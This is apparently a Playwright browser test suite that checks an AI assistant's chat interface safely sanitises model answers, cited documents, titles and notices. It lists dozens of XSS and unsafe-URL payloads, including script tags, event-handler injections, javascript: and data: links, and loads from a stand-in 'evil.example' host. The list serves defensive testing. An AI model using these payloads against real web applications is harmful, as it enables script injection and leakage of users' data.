"""What a model, a document or a title may say: nothing of it runs, opens a dialog or makes the browser ask anybody."""

import pytest
from playwright.async_api import Page, expect

from assistant.db.session import Database
from assistant.mentor.events import Notice
from tests.page.conftest import Demo, OpenPage, add_document
from tests.page.test_page import ask, tool

pytestmark = pytest.mark.browser

EVIL = "http://evil.example"
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)", "javascript&#x3a;alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:http://evil.example/x", "file:///etc/passwd",
    "view-source:javascript:alert(1)", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "/api/me",
    "https://good.example@evil.example/", "http:\\\\good.example@evil.example", "intent://evil.example#Intent;end",
)  # fmt: skip
"""Addresses that no link may have."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=http://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/a.png>",
    f"![a]({EVIL}/a.png)",
    f"![a][1]\n\n[1]: {EVIL}/a.png",
    f"![a](<{EVIL}/a b.png> 'title')",
    f"[![a]({EVIL}/a.png)]({EVIL}/b)",
    f"<picture><source srcset={EVIL}/a.png><img src={EVIL}/b.png></picture>",
    f"<svg onload=alert(1)><image href={EVIL}/a.png /></svg>",
    f"<svg><style>@import url({EVIL}/a.css)</style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    f"<style>body{{background:url({EVIL}/a.png)}}</style>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=prefetch href={EVIL}/a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={EVIL}/x></object><embed src={EVIL}/x>",
    f"<video src={EVIL}/a.mp4 autoplay onloadstart=alert(1)></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<form action={EVIL}><button autofocus onfocus=alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    f"<a ping={EVIL}/ping href=/>click</a>",
    f"<div style='background:url({EVIL}/a.png)'>x</div>",
    "<x onclick=alert(1)>click</x>",
    "</p></div><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```<img src=x onerror=alert(1)>\ncode\n```",
    '```"onmouseover=alert(1) x="\ncode\n```',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | 2 |",
    "# <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>\n- [ ] <svg onload=alert(1)>",
    f"<{EVIL}/auto> {EVIL}/bare ![]({EVIL}/empty)",
    f"[a]({EVIL}/\"onmouseover=\"alert(1)) [b]({EVIL} \"t\\\" onmouseover=alert(1)\")",
    f"[^1]\n\n[^1]: ![x]({EVIL}/note.png)",
    "{{7*7}} ${alert(1)} <%= 1 %> {{constructor.constructor('alert(1)')()}}",
    "$$\\href{javascript:alert(1)}{x}$$ \\url{javascript:alert(1)}",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B; click A \"javascript:alert(1)\"\n```",
    "<img name=getElementById><form id=composer><input name=message>",
    "<a id=announcer><a id=announcer name=x href='clobbered:1'>",
    "[1]<script>alert(1)</script>[2]",
    "**<b onmouseover=alert(1)>**_<i onclick=alert(1)>_",
    "\u202e<script>alert(1)</script>\u202c\u0000",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    *(f"[click]({address}) [wrapped](<{address}>) <{address}>" for address in SCHEMES),
)  # fmt: skip

ELEMENTS = {
    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "FIGCAPTION", "FIGURE", "H3", "H4", "H5", "H6", "HR",
    "LI", "MARK", "OL", "P", "PRE", "SPAN", "STRONG", "SVG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL", "USE",
}  # fmt: skip
ATTRIBUTES = {
    "aria-hidden", "aria-label", "class", "data-number", "dir", "href", "rel", "role", "scope", "start", "tabindex",
    "target", "type",
}  # fmt: skip

SURVEY = """
(box) => {
    const all = [...box.querySelectorAll('*')];
    return {
        elements: [...new Set(all.map((element) => element.tagName.toUpperCase()))],
        attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
        links: [...box.querySelectorAll('a')].map((link) => [link.href, link.rel, link.target, link.textContent]),
    };
}
"""


async def check_harmless(page: Page, selector: str) -> None:
    """Only elements and attributes that the page makes itself; links only where a link may lead."""
    for box in await page.locator(selector).all():
        found = await box.evaluate(SURVEY)
        assert set(found["elements"]) <= ELEMENTS
        assert set(found["attributes"]) <= ATTRIBUTES
        for href, rel, target, text in found["links"]:
            assert href.startswith((f"{EVIL}/", "https://e.org/")), href
            assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
            assert "evil.example" in text


async def shake(page: Page) -> None:
    """Hover and press what is there, except links, which lead away."""
    for element in await page.locator(".prose :is(button, summary, [onclick], [onmouseover], input), .source").all():
        await element.hover()


async def test_nothing_that_a_model_says_runs_or_is_fetched(demo: Demo, page: Page) -> None:
    text = "\n\n".join(PAYLOADS).replace("\x00", "").replace("\x01", "")
    demo.mentor.says(
        *text, Notice("no_sources", {})
    )  # letter by letter, so that each payload is there in every state of completion
    await ask(page, "Attack")
    await expect(page.get_by_text("Answered without sources")).to_be_visible(timeout=60_000)
    await check_harmless(page, ".prose")
    await shake(page)
    assert await page.locator(".prose a").count() > 5
    await page.reload()
    await expect(page.locator(".prose")).to_be_visible()
    await check_harmless(page, ".prose")


async def test_nothing_in_a_document_or_its_title_runs_or_is_fetched(
    demo: Demo, page: Page, database: Database
) -> None:
    text = "\n\n".join(PAYLOADS).replace("\x00", "")
    quote = PAYLOADS[3]
    document = await add_document(database, demo.person, text, title=PAYLOADS[2])
    demo.mentor.says("See [1].", citations=[document.cite(1, quote, heading=f"{PAYLOADS[0]} › {PAYLOADS[9]}", page=1)])
    await ask(page, "Attack")
    await expect(page.locator(".source .place")).to_have_text(f"{PAYLOADS[2]} › {PAYLOADS[0]} › {PAYLOADS[9]}, p. 1")
    await page.locator(".source").click()
    await expect(page.locator("#source-body .document mark").first).to_be_visible()
    assert "".join(await page.locator("#source-body .document mark").all_inner_texts()) == quote
    await expect(page.locator("#source-title")).to_have_text(PAYLOADS[2])
    await check_harmless(page, "#source-body")


async def test_nothing_in_questions_names_tools_and_notices_runs(
    demo: Demo, open_page: OpenPage, database: Database
) -> None:
    image = PAYLOADS[2]
    async with database.transaction(demo.person.principal) as connection:
        await connection.exec_driver_sql(
            "update spaces set title = %s, ai_mentor_config = jsonb_build_object('greeting', %s::text,"
            " 'suggested_prompts', jsonb_build_array(%s::text)) where id = %s",
            (image, image, image, demo.person.space_id),
        )
    page = await open_page(demo.service.address)
    await expect(page.get_by_role("heading", level=1)).to_have_text(image)
    await expect(page.locator(".greeting")).to_have_text(image)
    demo.mentor.says(
        *tool(image, f'{{"title": "{image}"}}', {"status": "done", "code": image}, image),
        "Well.",
        Notice("told", {"message": image}),
    )
    await page.get_by_role("button", name=image).click()
    await expect(page.locator(".bubble")).to_have_text(image)
    await expect(page.locator(".tool")).to_contain_text(image)
    await expect(page.locator(".notice")).to_have_text(image)
    await expect(page.locator("img")).to_have_count(0)
